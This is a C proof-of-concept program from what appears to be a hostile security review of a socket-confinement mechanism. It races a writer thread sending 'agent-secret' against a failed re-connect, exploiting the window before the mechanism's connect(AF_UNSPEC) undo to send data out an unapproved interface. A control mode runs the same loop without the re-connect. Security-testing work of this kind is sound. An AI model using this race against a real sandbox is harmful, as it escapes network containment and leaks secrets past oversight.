/* ha15-undo: hostile review h-attack15 (commit c8ea553). c8ea553 undoes a
 * connect whose device changed without taking (the failed re-connect of
 * ha14-reconnect) by disconnecting the socket (connect(AF_UNSPEC) on its
 * duplicate) after the act. Between the kernel's failed connect (device now
 * IFNAME, peer still the declared ::ffff:DEST, state ESTABLISHED) and that
 * undo, the socket is exactly ha14-reconnect's: write() is not trapped, and
 * a second thread writing in a loop sends by IFNAME to whoever answers there.
 *
 *   ha15-undo MODE DEST:PORT IFNAME
 *     undo    connect(::ffff:DEST); a thread write()s in a loop while the
 *             main thread connect()s to the declared fe80::1%IFNAME (fails
 *             EAFNOSUPPORT in the kernel)
 *     noundo  control: the same loop, no re-connect
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int s;
static volatile int stop;
static volatile long ok, fails;
static int last_err;

static void *writer(void *arg)
{
	const char *msg = arg;

	while (!stop) {
		if (write(s, msg, strlen(msg)) > 0) {
			ok++;
		} else {
			fails++;
			last_err = errno;
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, ll = {.sin6_family = AF_INET6};
	char host[64], msg[80], dev[IFNAMSIZ + 1] = "", *colon;
	socklen_t dl = sizeof(dev) - 1;
	pthread_t t;
	long rc;

	if (argc != 4) {
		fprintf(stderr, "usage: ha15-undo MODE DEST:PORT IFNAME\n");
		return 2;
	}
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	inet_pton(AF_INET6, "fe80::1", &ll.sin6_addr);
	ll.sin6_port = dst.sin6_port;
	ll.sin6_scope_id = if_nametoindex(argv[3]);
	s = socket(AF_INET6, SOCK_DGRAM, 0);
	rc = connect(s, (struct sockaddr *)&dst, sizeof(dst));
	printf("agent: connect(%s) = %ld (%s)\n", host, rc, rc < 0 ? strerror(errno) : "ok");
	snprintf(msg, sizeof(msg), "agent-secret via %s", argv[1]);
	if (pthread_create(&t, NULL, writer, msg) != 0)
		return 2;
	while (ok < 20 && fails == 0)
		;
	if (strcmp(argv[1], "undo") == 0) {
		rc = connect(s, (struct sockaddr *)&ll, sizeof(ll));
		printf("agent: connect(fe80::1%%%s) = %ld (%s)\n", argv[3], rc,
		       rc < 0 ? strerror(errno) : "ok");
	}
	usleep(2000);
	stop = 1;
	pthread_join(t, NULL);
	printf("agent: writes ok %ld, failed %ld (last: %s)\n", ok, fails,
	       fails ? strerror(last_err) : "-");
	getsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	printf("agent: socket now bound to device '%s'\n", dev);
	usleep(300 * 1000);
	return 0;
}
